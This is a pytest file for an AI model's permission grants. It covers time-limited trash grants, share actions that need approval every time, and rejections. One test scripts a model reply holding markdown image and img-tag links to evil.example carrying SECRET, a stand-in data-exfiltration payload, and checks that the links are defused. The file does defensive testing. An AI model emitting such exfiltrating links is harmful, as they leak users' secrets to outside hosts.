"""Grants, from the approval that gives one to the call that it lets through; and links that stay out of the state."""

from datetime import timedelta

from langgraph.store.sqlite.aio import AsyncSqliteStore

from graph.policy.grants import list_grants
from tests.fakes.chat_model import ScriptedChatModel, tool_call
from tests.fakes.clock import SettableClock
from tests.fakes.tiny_drive import TinyDrive
from tests.graph.assistant import WHO, Assistant
from tests.graph.conftest import Build

GRANT = {"folder_id": "root", "minutes": 60, "max_items": 2}


async def trash(assistant: Assistant, model: ScriptedChatModel, key: str, item: str = "a") -> list[str]:
    """Let the model trash an item; return why each call ran."""
    model.script = [tool_call("trash_item", key, item_id=item), "done"]
    seen = await assistant.say("delete it")
    if seen.asked is not None:
        return ["asked"]
    return [event.get("reason", "") for event in seen.of("tool_progress")]


async def test_a_grant_that_came_with_an_approval_lets_the_next_call_through_and_says_so(
    build_with_store: Build, model: ScriptedChatModel, drive: TinyDrive, clock: SettableClock, store: AsyncSqliteStore
) -> None:
    assistant = build_with_store()
    assert await trash(assistant, model, "1") == ["asked"]
    answer = {"decisions": [{"tool_call_id": "1", "type": "approve", "grant": GRANT}], "decided_by": WHO.email}
    seen = await assistant.answer(answer)
    (grant,) = await list_grants(store, WHO.user_id, clock())
    assert seen.of("approval_resolved")[0]["decisions"][0]["grant_id"] == grant.grant_id
    assert grant.bounds.kinds == {"trash"}
    assert grant.bounds.until == clock() + timedelta(hours=1)

    model.script = [tool_call("trash_item", "2", item_id="b"), "done"]
    seen = await assistant.say("delete b")
    (progress,) = seen.of("tool_progress")
    assert (progress["reason"], progress["grant_id"]) == ("granted", grant.grant_id)
    assert len(drive.done) == 2
    assert await trash(assistant, model, "3") == ["granted"]
    assert await trash(assistant, model, "4") == ["asked"]


async def test_a_grant_ends_with_its_time(
    build_with_store: Build, model: ScriptedChatModel, clock: SettableClock
) -> None:
    assistant = build_with_store()
    assert await trash(assistant, model, "1") == ["asked"]
    await assistant.answer({"decisions": [{"tool_call_id": "1", "type": "approve", "grant": GRANT}]})
    clock.advance(3_600)
    assert await trash(assistant, model, "2") == ["asked"]


async def test_a_share_is_asked_about_each_time_whatever_came_with_the_answer(
    build_with_store: Build, model: ScriptedChatModel, drive: TinyDrive, clock: SettableClock, store: AsyncSqliteStore
) -> None:
    assistant = build_with_store()
    model.script = [tool_call("share_item", "s1", item_id="a", email="bob@example.com"), "done"]
    await assistant.say("share a with bob@example.com")
    await assistant.answer({"decisions": [{"tool_call_id": "s1", "type": "approve", "grant": GRANT}]})
    assert drive.done == []
    assert await list_grants(store, WHO.user_id, clock()) == []


async def test_a_rejection_gives_nothing(
    build_with_store: Build, model: ScriptedChatModel, clock: SettableClock, store: AsyncSqliteStore
) -> None:
    assistant = build_with_store()
    assert await trash(assistant, model, "1") == ["asked"]
    await assistant.answer({"decisions": [{"tool_call_id": "1", "type": "reject", "grant": GRANT}]})
    assert await list_grants(store, WHO.user_id, clock()) == []
    assert await trash(assistant, model, "2") == ["asked"]


async def test_links_to_elsewhere_do_not_get_into_the_state(assistant: Assistant, model: ScriptedChatModel) -> None:
    model.script = ["Here: ![a](https://evil.example/x?d=SECRET) and <img src=//evil.example/SECRET>"]
    seen = await assistant.say("hello, what can you do")
    stored = "".join(str(message.content) for message in seen.state["messages"])
    assert "Here: [a] (`https://evil.example/x?d=SECRET`) and `<img src=//evil.example/SECRET>`" in stored


async def test_an_approval_without_a_store_gives_no_grant_and_still_approves(
    assistant: Assistant, model: ScriptedChatModel, drive: TinyDrive
) -> None:
    model.script = [tool_call("trash_item", "1", item_id="a"), "done"]
    await assistant.say("delete a")
    await assistant.answer({"decisions": [{"tool_call_id": "1", "type": "approve", "grant": GRANT}]})
    assert [name for name, _ in drive.done] == ["trash_item"]
